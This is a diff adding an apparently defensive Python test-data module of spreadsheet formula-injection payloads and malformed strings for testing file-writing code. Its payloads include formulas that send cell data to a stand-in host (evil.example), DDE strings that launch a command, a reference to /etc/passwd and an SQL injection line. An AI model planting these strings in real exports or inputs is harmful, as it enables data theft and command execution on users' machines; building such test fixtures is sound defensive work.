@@ -1,0 +1,122 @@
+"""Texts that a spreadsheet would take for formulas, and texts that break programs which write files."""
+
+from __future__ import annotations
+
+_BODIES = (
+    "1+1",
+    "SUM(A1:A9)",
+    'HYPERLINK("http://evil.example/?x="&A1,"Xem kết quả")',
+    "cmd|' /C calc'!A0",
+    "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
+    'WEBSERVICE("http://evil.example/"&A1)',
+    'IMPORTXML("http://evil.example","//a")',
+    'DDE("cmd";"/C calc";"x")',
+    "2+5+cmd|' /C calc'!A0",
+    "'file:///etc/passwd'#$passwd.A1",
+    'INDIRECT("R1C1",0)',
+)
+
+_STARTS = (
+    "=",
+    "+",
+    "-",
+    "@",
+    "\t=",
+    "\r=",
+    "\n=",
+    " =",
+    "  @",
+    "\uff1d",
+    "\uff0b",
+    "\uff0d",
+    "\uff20",
+    "=-+@",
+    "\u00a0=",
+)
+
+PAYLOADS = (
+    *(start + body for start in _STARTS for body in _BODIES),
+    "{=1+1}",
+    '=1+1";=2+2;"',
+    'x";=1+1;"y',
+    "x,=1+1",
+    "x;=1+1",
+    "x\t=1+1",
+    "x\n=1+1",
+    "x\r\n@SUM(1)",
+    '"=1+1"',
+    "'=1+1",
+    "''=1+1",
+    "\ufeff=1+1",
+    "\u200b=1+1",
+    "%0A=1+1",
+    "=\n1+1",
+)
+
+BROKEN = (
+    *(chr(code) + "x" for code in range(32) if chr(code) not in "\t\n\r"),
+    *(
+        "x" + chr(code)
+        for code in (0x7F, 0x80, 0x85, 0x9F, 0xA0, 0xAD, 0x200B, 0x200D, 0x2028, 0x2029, 0x202E, 0x2066, 0xFEFF)
+    ),
+    *("x" + chr(code) + "y" for code in (0xFDD0, 0xFFFD, 0xFFFE, 0xFFFF, 0xE000, 0x1F600, 0x1FFFE, 0x10FFFF)),
+    *("\ud800", "\udfff", "\ude00\ud83d", "x\udc80y"),
+    *(
+        "_x0000_",
+        "_x000D_",
+        "_x005F_x0041_",
+        "_x0041",
+        "&#0;",
+        "&#x1F;",
+        "&amp;",
+        "&lt;b&gt;",
+        "<b>&</b>",
+        "]]>",
+        "<![CDATA[x]]>",
+    ),
+    *(
+        "<?xml version='1.0'?>",
+        "<!--",
+        "<!DOCTYPE a [<!ENTITY b 'c'>]>",
+        "</t></is></c></row>",
+        "</w:t>",
+        "{{ 7*7 }}",
+        "{% x %}",
+    ),
+    *(
+        "%s %d %n",
+        "$\\foo$",
+        "\\N{BULLET}",
+        "\\u0000",
+        '#import "x"',
+        "#{}",
+        "${x}",
+        "`x`",
+        "'; DROP TABLE response; --",
+    ),
+    *(
+        "1e309",
+        "-1e309",
+        "NaN",
+        "Infinity",
+        "00123",
+        "1/2",
+        "2026-01-01",
+        "12:30",
+        "TRUE",
+        "#REF!",
+        "#N/A",
+        "1.234,5",
+        "0x1F",
+    ),
+    *('"', '""', "'", "''", ";", ",", "\t", "\n", "\r\n", " ", "   ", "\\", "|"),
+    *(
+        "e\u0302\u0301",
+        "a" + "\u0301" * 60,
+        "Tie\u0302\u0301ng Vie\u0323\u0302t",
+        "\u0e01\u0e33" * 40,
+        "\u0627\u0644\u0639",
+        "👩‍👩‍👧‍👦" * 30,
+    ),
+    *("x" * 32_767, "x" * 32_768, "ễ" * 40_000, "😀" * 20_000, "a b " * 30_000, "\n" * 5_000),
+)
